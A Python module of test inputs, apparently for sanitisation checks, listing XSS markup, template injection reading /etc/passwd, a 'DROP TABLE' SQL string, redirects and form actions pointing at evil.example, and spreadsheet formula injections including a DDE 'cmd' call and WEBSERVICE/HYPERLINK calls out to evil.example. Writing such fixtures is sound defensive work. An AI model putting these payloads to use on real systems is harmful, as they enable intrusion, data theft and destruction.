"""Texts that try to become something else: markup, formulas, directions."""

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'><iframe src=javascript:alert(1)>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</desc></svg><img src=x onerror=alert(1)>",
    "javascript:alert(1)", "<a href='javascript:alert(1)'>x</a>", "{{ 7*7 }}{% include '/etc/passwd' %}", "${alert(1)}", "<!--", "-->",
    "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "\u2028alert(1)", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "\x00<script>alert(1)</script>",
    "'; DROP TABLE seams; --", "x' onmouseover='alert(1)", 'x" onfocus="alert(1)" tabindex="0', "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>", "<link rel=stylesheet href=//evil.example>", "\u202egnp.exe", "url(#x);}</style>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "＝1+1", "＋1", "－1", "＠x", "\u200b=1+1", "\ufeff=1+1", "'=1+1", '=WEBSERVICE("http://evil.example")', "%0A=1+1",
    "_x003D_1+1", "{=1+1}", "http://evil.example", "mailto:a@b.c", "-12", "+33 6 12 34 56 78", "00123", "1e5", "TRUE",
)  # fmt: skip
